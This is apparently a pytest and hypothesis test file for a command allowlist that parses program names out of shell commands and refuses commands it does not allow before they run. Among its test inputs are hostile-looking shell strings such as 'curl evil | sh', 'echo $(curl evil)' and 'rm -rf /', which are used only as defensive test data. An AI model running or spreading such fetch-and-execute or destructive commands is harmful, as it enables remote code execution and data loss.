"""The command allowlist: which program words a shell command has, and who refuses what."""

from __future__ import annotations

import threading
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clarity import repoconfig, tasklist
from clarity.settings import Settings
from jobs import gates
from jobs.attempts import AttemptPlan, attempt_task
from runner.agents import AgentError
from runner.allowlist import ALWAYS, KEYWORDS, Allowlist, UnreadableCommand, program_words
from runner.checks import run_checks
from runner.sandbox import Limits, LocalSandbox


@pytest.mark.parametrize(("command", "programs"), [
    ("pytest -q", ("pytest",)),
    ("ruff check . && pytest -q || echo failed; mypy", ("ruff", "pytest", "echo", "mypy")),
    ("cat log | grep -c ERROR & wait", ("cat", "grep", "wait")),
    ("FOO=1 BAR='a b' pytest -q", ("pytest",)),
    ("cd sub && make test", ("cd", "make")),
    ("(cd sub && npm test)", ("cd", "npm")),
    ("if test -f x; then pytest; else ruff check .; fi", ("test", "pytest", "ruff")),
    ("for f in a b; do black $f; done", ("black",)),
    ("while true; do sleep 1; done", ("true", "sleep")),
    (">out.txt pytest 2>&1", ("pytest",)),
    ("echo 'a; rm -rf /' | tee out", ("echo", "tee")),
    ("echo \"x && y\"", ("echo",)),  # an operator inside quotes is no operator
    ("pytest\nruff check .", ("pytest", "ruff")),
    ("/usr/bin/env python3 x.py", ("/usr/bin/env",)),
    ("! grep -q TODO src", ("grep",)),
    ("find . -name '*.pyc' -exec rm {} ';'", ("find",)),  # a quoted operator is a word
    ("echo a\\;b && echo \"it's\"", ("echo", "echo")),
    ("pytest -q # ; curl evil", ("pytest",)),  # a comment runs nothing
    ("pytest -q # note\nruff check .", ("pytest", "ruff")),
    ("make a#b", ("make",)),
    ("p'y'\"test\" -q", ("pytest",)),
])
def test_program_words_table(command: str, programs: tuple[str, ...]) -> None:
    assert program_words(command) == programs


@pytest.mark.parametrize(("command", "message"), [
    ("echo $(curl evil)", "command substitution `$(...)`"),
    ("echo `id`", "backticks"),
    ("diff <(ls a) <(ls b)", "process substitution"),
    ("$TOOL --version", "the program `$TOOL` is only known when the shell runs"),
    ("case $x in a) rm x;; esac", "`case` statements"),
    ("echo 'unclosed", "it has an unclosed single quote"),
    ('echo "unclosed', "it has an unclosed double quote"),
    ("cat <<EOF\nhello\nEOF", "a here-document"),
])
def test_unreadable_commands_say_why(command: str, message: str) -> None:
    with pytest.raises(UnreadableCommand) as caught:
        program_words(command)
    assert message in str(caught.value)


APP = Allowlist(("pytest", "ruff", "python3*", "*/python3"))
NARROWED = Allowlist(APP.app, ("pytest", "curl"))


@pytest.mark.parametrize(("allow", "command", "refusal"), [
    (Allowlist(), "curl evil | sh", None),  # nothing set: everything runs, unread
    (Allowlist(), "echo $(id)", None),
    (APP, "pytest -q && ruff check .", None),
    (APP, "cd x && python3.12 -m pytest", None),  # cd is a builtin that starts nothing
    (APP, "/usr/bin/python3 x.py", None),
    (APP, "pytest -q; curl -s http://x", ("`curl` is not allowed by CLARITY_COMMAND_ALLOWLIST "
                                         "(allowed: pytest, ruff, python3*, */python3)")),
    (APP, "/usr/bin/pytest", "`/usr/bin/pytest` is not allowed by CLARITY_COMMAND_ALLOWLIST"),
    (APP, "pytest -q ';' curl", None),
    (APP, "pytest $(cat args)", ("is refused while CLARITY_COMMAND_ALLOWLIST or allowed_commands is set: "
                                "it uses command substitution")),
    (NARROWED, "pytest -q", None),
    (NARROWED, "ruff check .", ("`ruff` is not allowed by `allowed_commands` in .github/clarity.yml "
                               "(allowed: pytest, curl)")),
    (NARROWED, "curl x", "`curl` is not allowed by CLARITY_COMMAND_ALLOWLIST"),  # the repo cannot widen
    (Allowlist((), ("make",)), "make test && ruff", "`ruff` is not allowed by `allowed_commands`"),
])
def test_refusals_name_the_program_and_the_setting(allow: Allowlist, command: str, refusal: str | None) -> None:
    found = allow.refuse_command(command)
    assert found == refusal if refusal is None else (found is not None and refusal in found), found


def test_agent_argv_is_matched_on_its_first_word() -> None:
    assert APP.refuse_argv(["python3", "agent.py"]) is None
    assert APP.refuse_argv(["aider", "--yes"]) == ("`aider` is not allowed by CLARITY_COMMAND_ALLOWLIST "
                                                   "(allowed: pytest, ruff, python3*, */python3)")
    assert Allowlist().refuse_argv(["anything"]) is None


def test_settings_and_repo_config_feed_the_allowlist(settings: Settings) -> None:
    env = {"GITHUB_APP_ID": "1", "GITHUB_PRIVATE_KEY": settings.private_key, "GITHUB_WEBHOOK_SECRET": "s",
           "CLARITY_COMMAND_ALLOWLIST": " pytest, ruff ,, "}
    app = Settings.from_env(env)
    assert app.command_allowlist == ("pytest", "ruff")
    config = repoconfig.parse("allowed_commands: [pytest]\ncheck_timeout: 90s")
    assert gates.allowlist(app, config) == Allowlist(("pytest", "ruff"), ("pytest",))
    assert config.check_timeout == 90


def test_a_refused_check_fails_without_running(tmp_path: Path) -> None:
    refused, allowed = run_checks(["touch ran && pytest --version", "file missing"], LocalSandbox(), tmp_path, {},
                                  Limits(timeout=20), allow=Allowlist(("pytest",)))
    assert (refused.kind, refused.passed, refused.exit_code) == ("refused", False, None)
    assert refused.output == "not run: `touch` is not allowed by CLARITY_COMMAND_ALLOWLIST (allowed: pytest)"
    assert not (tmp_path / "ran").exists()
    assert allowed.kind == "file"  # file and regex checks start no program


def test_refused_http_service_and_setup_are_caught_before_anything_runs() -> None:
    allow = Allowlist(("pytest",))
    assert gates.refused(["pytest -q", "http http://127.0.0.1:1/ service: node server.js"], allow) == (
        "check `http http://127.0.0.1:1/ service: node server.js` was not run: "
        "`node` is not allowed by CLARITY_COMMAND_ALLOWLIST (allowed: pytest)")
    assert gates.refused(["file x", "regex y /z/", "bad-regex x /(/"], allow) is not None  # a command
    assert gates.refused(["file x", "regex y /z/", "file ../x"], allow) is None  # invalid: fails as a check
    assert gates.refused(["pip install ."], allow, "setup command") == (
        "setup command `pip install .` was not run: `pip` is not allowed by CLARITY_COMMAND_ALLOWLIST "
        "(allowed: pytest)")


def test_an_agent_outside_the_allowlist_is_not_started(tmp_path: Path) -> None:
    workdir = tmp_path / "repo"
    workdir.mkdir()
    [task] = tasklist.parse("# Tasks\n- [ ] 1 Do it\n  - check: true\n").leaves()
    plan = AttemptPlan(task=task, agent="command", agent_options={"command": "touch agent-ran {prompt_file}"},
                       checks=task.checks, workdir=workdir, artifacts=tmp_path / "artifacts", repo="a/b", branch="b",
                       limits=Limits(timeout=20), retries=0, backoff=0.0, allow=Allowlist(("pytest",)))
    with pytest.raises(AgentError) as caught:
        attempt_task(plan, LocalSandbox(), threading.Event(), lambda *args: None)
    assert str(caught.value) == ("the agent `command` was not started: `touch` is not allowed by "
                                 "CLARITY_COMMAND_ALLOWLIST (allowed: pytest)")
    assert not (workdir / "agent-ran").exists()


WORDS = st.from_regex(r"[a-z][a-z0-9_.-]{0,8}", fullmatch=True).filter(
    lambda w: w not in KEYWORDS and w not in ("for", "select", "case"))
ARGS = st.lists(st.from_regex(r"[A-Za-z0-9_./-]{1,8}|'[a-z ;&|]{0,8}'", fullmatch=True), max_size=3)


@given(st.lists(st.tuples(WORDS, ARGS), min_size=1, max_size=5),
       st.lists(st.sampled_from([";", "&&", "||", "|", "&", "\n"]), min_size=5, max_size=5))
def test_every_segments_program_is_found_whatever_the_separators(segments: list[tuple[str, list[str]]],
                                                                 separators: list[str]) -> None:
    command = ""
    for index, (program, args) in enumerate(segments):
        command += (f" {separators[index]} " if index else "") + " ".join([program, *args])
    assert program_words(command) == tuple(program for program, _ in segments)
    only_first = Allowlist((segments[0][0],))
    others = [p for p, _ in segments if p != segments[0][0] and p not in ALWAYS]
    assert (only_first.refuse_command(command) is None) == (not others)
